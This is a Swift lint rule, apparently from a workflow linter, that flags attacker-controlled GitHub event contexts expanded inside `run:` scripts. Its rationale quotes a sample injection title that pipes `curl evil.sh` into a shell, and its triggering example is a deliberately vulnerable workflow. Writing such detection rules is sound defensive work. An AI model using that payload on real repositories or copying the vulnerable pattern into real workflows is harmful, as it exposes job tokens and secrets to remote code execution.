import MagsagCatalog
import MagsagLintCore
import MagsagSource

/// Reports attacker-controlled `${{ github.event.* }}` contexts expanded inside `run:` scripts.
public struct WorkflowScriptInjectionRule: FileRule {
    public init() {}

    public static let description = RuleDescription(
        id: "workflow-script-injection",
        name: "Workflow script injection",
        category: .security,
        defaultSeverity: .error,
        summary: "A run script expands an attacker-controlled ${{ github.event.* }} context",
        rationale: """
            `${{ }}` is substituted into the script text before the shell runs it, so a pull request titled \
            `a"; curl evil.sh | sh; echo "` runs that command with the job's token and secrets. Reported \
            contexts are those anyone can set: issue, pull request, discussion, review and comment titles and \
            bodies, commit messages and author names and emails, page names, head branch names \
            (`github.head_ref`, `…head.ref`, `…head.label`, `workflow_run.head_branch`) and default branches of \
            forks. Both `run:` steps and the `script` input of `actions/github-script` are checked.
            """,
        fix: """
            Pass the value through an environment variable and quote it in the script: \
            `env: {TITLE: "${{ github.event.issue.title }}"}` then `run: echo "$TITLE"`.
            """,
        triggeringExamples: [
            Example(".github/workflows/triage.yml", """
                on: issues
                permissions:
                  issues: write
                jobs:
                  triage:
                    runs-on: ubuntu-latest
                    steps:
                      - run: |
                          echo "Triage: ↓${{ github.event.issue.title }}"
                          ./triage.sh "↓${{ github.head_ref }}"
                      - uses: actions/github-script@v7
                        with:
                          script: console.log("↓${{ github.event.comment.body }}")
                """),
        ],
        nonTriggeringExamples: [
            Example(".github/workflows/triage.yml", """
                on: issues
                permissions:
                  issues: write
                jobs:
                  triage:
                    runs-on: ubuntu-latest
                    steps:
                      - env:
                          TITLE: ${{ github.event.issue.title }}
                        run: |
                          echo "Triage: $TITLE #${{ github.event.issue.number }} by ${{ github.actor }}"
                """),
        ])

    public func check(_ document: LintDocument, into sink: inout DiagnosticSink) {
        guard let workflow = Workflow(document) else { return }
        for job in workflow.jobs {
            for step in Workflow.steps(job.field) {
                var scripts: [CatalogField] = step.child("run").map { [$0] } ?? []
                if let uses = step.child("uses")?.string, uses.lowercased().hasPrefix("actions/github-script@"),
                   let script = step.descendant("with", "script") {
                    scripts.append(script)
                }
                for script in scripts {
                    guard let text = script.string else { continue }
                    var from = script.range.start.offset
                    for expression in Workflow.expressions(in: text) {
                        guard let context = Workflow.untrustedContexts(in: expression.body).first else { continue }
                        sink.reportExpression(
                            "'\(context)' is controlled by whoever opens the issue, pull request or comment, and is expanded into a script",
                            text: text, range: expression.range, field: script, in: document, from: &from,
                            label: "script injection",
                            help: "pass it through `env:` and use the shell variable, quoted")
                    }
                }
            }
        }
    }
}
